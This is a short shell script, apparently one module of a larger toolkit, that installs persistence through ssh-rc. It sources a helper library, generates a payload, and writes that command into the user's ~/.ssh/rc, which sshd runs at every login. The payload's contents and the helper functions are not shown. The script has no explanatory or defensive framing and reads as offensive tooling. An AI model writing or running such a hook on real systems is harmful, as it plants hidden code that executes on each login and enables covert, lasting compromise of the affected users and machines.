#!/bin/sh
# ssh-rc: a file that sshd runs at a login (sshd(8), .ssh/rc)
. "${0%/*}/lib.sh"
payload
put "$home/.ssh/rc" 644 "$head" "$cmd"
